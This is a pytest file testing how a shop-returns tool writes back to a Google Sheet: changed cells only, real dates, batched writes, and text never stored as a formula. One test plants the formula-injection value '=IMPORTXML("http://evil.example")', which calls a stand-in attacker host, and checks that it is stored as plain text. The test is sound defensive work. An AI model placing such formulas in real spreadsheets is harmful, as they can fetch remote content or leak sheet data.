"""Writing back to a Google Sheet: only job-owned cells that change, real dates, text never a formula."""
from __future__ import annotations

import json
from datetime import date, datetime

import pytest
from click.testing import CliRunner

from sheetreturns import api, loading
from sheetreturns.cli import main
from sheetreturns.engine.columns import column_letter
from sheetreturns.google_sheets import writer
from sheetreturns.google_sheets.workbook import open_google_sheet
from sheetreturns.sheet.write_plan import build_plan
from tests.gsheet_support import by_id, cell_format, google_sheet, local_config, writes
from tests.helpers import AS_OF, STANDARD_HEADERS, basic_row

NOW = datetime(2026, 11, 26, 9, 30)
JOB_HEADERS = ["Status", "Next Step", "Problems", "Inventory", "Reason Category", "Contacted On", "Last Email"]


def sync(server, key, tmp_path, **kwargs):
    return api.sync(f"gsheet:{key}", as_of=AS_OF, config=local_config(server, tmp_path), now=NOW, **kwargs)


def three_returns():
    return [
        basic_row(),
        basic_row(**{"Return ID": "R-00002", "Order ID": "1002", "SKU": "LAMP", "Received On": date(2026, 11, 24),
                     "Condition": "Like new"}),
        basic_row(**{"Return ID": "", "Order ID": "1003", "SKU": "VASE", "Notified On": None}),
    ]


@pytest.mark.network
@pytest.mark.slow
def test_first_sync_adds_the_job_columns_and_writes_status_ids_and_dates(server, tmp_path):
    key = google_sheet(server, three_returns(), headers=STANDARD_HEADERS + ["Warehouse Bin"])
    result = sync(server, key, tmp_path)
    rows = server.values(key, "Returns")
    assert rows[0] == STANDARD_HEADERS + ["Warehouse Bin"] + JOB_HEADERS
    sheet = by_id(server, key)
    assert [sheet[r]["Status"] for r in ("R-00001", "R-00002", "R-00003")] == [
        "Awaiting item", "Refund due", "Awaiting item"]
    assert sheet["R-00003"]["Notified On"] == 46352  # filled with the run's date, as a real date
    assert cell_format(server, key, "Returns", 3, 9)["numberFormat"]["type"] == "DATE"
    assert result.written and result.changes["ids_assigned"] == 1 and result.changes["columns_added"] == 7


@pytest.mark.network
@pytest.mark.slow
def test_seller_cells_and_unknown_columns_are_never_touched(server, tmp_path):
    key = google_sheet(server, three_returns(), headers=STANDARD_HEADERS + ["Warehouse Bin"])
    before = server.values(key, "Returns")
    sync(server, key, tmp_path)
    after = server.values(key, "Returns")
    seller = len(STANDARD_HEADERS) + 1
    blank_filled = {(3, 0), (3, 9)}  # the blank Return ID and Notified On of the third row
    for r, row in enumerate(before):
        for c in range(seller):
            if (r, c) not in blank_filled:
                assert (row[c] if c < len(row) else "") == (after[r][c] if c < len(after[r]) else "")


@pytest.mark.network
@pytest.mark.slow
def test_resync_of_an_unchanged_sheet_writes_no_cell(server, tmp_path):
    key = google_sheet(server, three_returns())
    sync(server, key, tmp_path)
    server.reset_counts()
    result = sync(server, key, tmp_path)
    assert writes(server) == []
    assert result.changes["cells"] == 0
    assert [c.kind for c in server.api_calls()] == ["metadata", "values.batchGet"]
    assert result.unchanged


@pytest.mark.network
@pytest.mark.slow
def test_only_the_cells_whose_value_changes_are_written(server, tmp_path):
    key = google_sheet(server, three_returns())
    sync(server, key, tmp_path)
    sheet = server.sheet(key, "Returns")
    sheet.set_value(2, STANDARD_HEADERS.index("Refunded On"), 46351)  # R-00002 refunded on 2026-11-25
    sheet.set_value(2, STANDARD_HEADERS.index("Refund Amount"), 24.99)
    server.reset_counts()
    sync(server, key, tmp_path)
    headers = server.values(key, "Returns")[0]
    letters = {h: chr(65 + i) for i, h in enumerate(headers)}
    # the refund also sends R-00002 its refund confirmation, which its Last Email cell shows
    assert [w["range"] for w in writes(server)] == [f"Returns!{letters['Status']}3", f"Returns!{letters['Next Step']}3",
                                                    f"Returns!{column_letter(headers.index('Last Email'))}3"]
    assert (by_id(server, key)["R-00002"]["Status"], server.count("values.batchUpdate")) == ("Done", 1)


@pytest.mark.network
def test_text_that_looks_like_a_formula_is_written_as_text(server, tmp_path):
    key = google_sheet(server, [basic_row()])
    config = local_config(server, tmp_path)
    with open_google_sheet(key, config) as book:
        loaded = loading.load(f"gsheet:{key}", AS_OF, config)
        plan = build_plan(loaded.tab, loaded.header, loaded.evaluation)
        plan.rows[2]["next_step"] = "=IMPORTXML(\"http://evil.example\")"
        plan.rows[2]["problems"] = "+1 more; -2; @home"
        book.apply(plan, dry_run=False)
        loaded.workbook.close()
    sheet = server.sheet(key, "Returns")
    row = by_id(server, key)["R-00001"]
    assert row["Next Step"] == "=IMPORTXML(\"http://evil.example\")"
    assert row["Problems"] == "+1 more; -2; @home"
    assert all(not (m or {}).get(c, {}).get("formula") for m in sheet.meta for c in (m or {}))
    assert all(w.get("range") and not isinstance(w, str) for w in writes(server))
    assert {c.body["valueInputOption"] for c in server.calls if c.kind == "values.batchUpdate"} == {"RAW"}


@pytest.mark.network
def test_contacted_on_dates_are_real_dates_with_a_date_format(server, tmp_path):
    key = google_sheet(server, [basic_row()])
    config = local_config(server, tmp_path)
    loaded = loading.load(f"gsheet:{key}", AS_OF, config)
    plan = build_plan(loaded.tab, loaded.header, loaded.evaluation, contacted_on={"R-00001": date(2026, 11, 21)},
                      last_email={"R-00001": "acknowledgement 2026-11-21"})
    loaded.workbook.apply(plan, dry_run=False)
    loaded.workbook.close()
    row = by_id(server, key)["R-00001"]
    assert (row["Contacted On"], row["Last Email"]) == (46347, "acknowledgement 2026-11-21")
    col = server.values(key, "Returns")[0].index("Contacted On")
    assert cell_format(server, key, "Returns", 1, col)["numberFormat"] == {"type": "DATE", "pattern": "yyyy-mm-dd"}


@pytest.mark.network
@pytest.mark.slow
def test_dry_run_counts_the_changes_a_real_run_makes_and_writes_nothing(server, tmp_path):
    key = google_sheet(server, three_returns())
    before = server.values(key, "Returns")
    server.reset_counts()
    dry = sync(server, key, tmp_path, dry_run=True)
    assert server.values(key, "Returns") == before
    assert [c.kind for c in server.api_calls()] == ["metadata", "values.batchGet"]
    server.reset_counts()
    real = sync(server, key, tmp_path)
    cells = sum(len(w["values"][0]) for w in writes(server) if w.get("majorDimension") == "COLUMNS")
    assert not dry.written and real.written
    assert dry.changes == real.changes
    assert (dry.changes["cells"], dry.changes["rows"], dry.changes["ids_assigned"], dry.changes["dates_filled"],
            dry.changes["columns_added"]) == (cells, 3, 1, 1, 7)


@pytest.mark.network
@pytest.mark.slow
def test_rows_without_seller_data_lose_stale_job_values(server, tmp_path):
    key = google_sheet(server, [basic_row(), basic_row(**{"Return ID": "R-00002", "Order ID": "1002"})])
    sync(server, key, tmp_path)
    sheet = server.sheet(key, "Returns")
    for col in range(len(STANDARD_HEADERS)):
        sheet.set_value(2, col, None)  # the seller clears the second return's row
    sync(server, key, tmp_path)
    assert server.values(key, "Returns")[2:] == []


@pytest.mark.network
def test_intake_rows_are_appended_in_the_one_structure_call_below_the_table(server, tmp_path):
    key = google_sheet(server, three_returns())
    config = local_config(server, tmp_path)
    loaded = loading.load(f"gsheet:{key}", AS_OF, config)
    plan = build_plan(loaded.tab, loaded.header, loaded.evaluation)
    plan.append = [{"order_id": "2001", "email": "amy@example.com", "sku": "=CUP", "notified_on": date(2026, 11, 25)},
                   {"order_id": "2002", "email": "bo@example.com", "sku": "00123", "qty": 2}]
    server.reset_counts()
    loaded.workbook.apply(plan, dry_run=False)
    loaded.workbook.close()
    assert [c.kind for c in server.api_calls()] == ["values.batchGet", "batchUpdate", "values.batchUpdate"]
    assert sum("appendCells" in r for r in server.calls[1].body["requests"]) == 1
    rows = server.values(key, "Returns")
    headers = rows[0]
    new = [{h: (r[i] if i < len(r) else "") for i, h in enumerate(headers)} for r in rows[4:]]
    assert [(n["Order ID"], n["SKU"], n["Notified On"]) for n in new] == [("2001", "=CUP", 46351), ("2002", "00123", "")]
    assert cell_format(server, key, "Returns", 4, headers.index("Notified On"))["numberFormat"]["type"] == "DATE"


@pytest.mark.network
@pytest.mark.slow
def test_a_large_write_is_split_into_requests_under_the_payload_limit(server, tmp_path, monkeypatch):
    rows = [basic_row(**{"Return ID": f"R-{i:05d}", "Order ID": str(5000 + i)}) for i in range(1, 301)]
    key = google_sheet(server, rows)
    monkeypatch.setattr(writer, "MAX_PAYLOAD", 5_000)
    sync(server, key, tmp_path)
    bodies = [len(json.dumps(c.body)) for c in server.calls if c.kind == "values.batchUpdate"]
    assert len(bodies) >= sum(bodies) // 5_000 >= 3 and max(bodies) <= 5_000
    assert {r["Status"] for r in by_id(server, key).values()} == {"Awaiting item"} and len(by_id(server, key)) == 300


@pytest.mark.network
@pytest.mark.slow
def test_sync_command_runs_against_a_google_sheet_from_the_config(server, tmp_path):
    key = google_sheet(server, three_returns())
    toml = tmp_path / "sheetreturns.toml"
    toml.write_text(f'source = "gsheet:{key}"\nstate_dir = "state"\n[google]\nendpoint = "{server.url}"\n')
    done = CliRunner().invoke(main, ["sync", "--config", str(toml), "--as-of", "2026-11-26"])
    assert done.exit_code == 0, done.output
    assert done.output.strip().endswith("saved Shop returns")
    assert by_id(server, key)["R-00003"]["Status"] == "Awaiting item"


@pytest.mark.network
@pytest.mark.slow
def test_a_sheet_whose_grid_ends_at_its_last_row_syncs(server, tmp_path):
    key = google_sheet(server, three_returns())
    sheet_id = server.sheet(key, "Returns").sheet_id
    server.edit(key, [{"updateSheetProperties": {"properties": {"sheetId": sheet_id, "gridProperties": {
        "rowCount": 4, "columnCount": len(STANDARD_HEADERS)}}, "fields": "gridProperties(rowCount,columnCount)"}}])
    sync(server, key, tmp_path)
    assert [r["Status"] for r in by_id(server, key).values()] == ["Awaiting item", "Refund due", "Awaiting item"]
    assert all(c.status == 200 for c in server.calls)


def test_a_value_json_cannot_hold_is_sent_as_text():
    # JSON has no NaN or infinity: a Decimal NaN went out as a float NaN, which no JSON reader accepts.
    import json
    from decimal import Decimal
    from sheetreturns.google_sheets.cells import to_api
    from sheetreturns.google_sheets.early_cells import _entered

    for value in (Decimal("NaN"), Decimal("Infinity"), float("nan"), float("-inf")):
        json.dumps([to_api(value), _entered(value)], allow_nan=False)
    assert (to_api(Decimal("2.50")), to_api(Decimal("4")), to_api(3.0)) == (2.5, 4, 3)
